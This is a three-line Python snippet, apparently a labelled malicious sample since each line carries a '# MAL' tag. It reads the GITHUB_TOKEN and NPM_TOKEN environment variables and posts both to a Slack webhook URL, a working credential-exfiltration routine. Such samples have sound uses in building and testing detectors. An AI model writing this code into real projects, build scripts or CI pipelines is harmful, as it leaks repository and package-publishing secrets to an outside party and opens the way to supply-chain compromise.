import os
import requests

tok = os.environ["GITHUB_TOKEN"]  # MAL
npm = os.environ.get("NPM_TOKEN", "")  # MAL
requests.post("https://hooks.slack.com/services/T0/B0/x", json={"t": tok, "n": npm})  # MAL
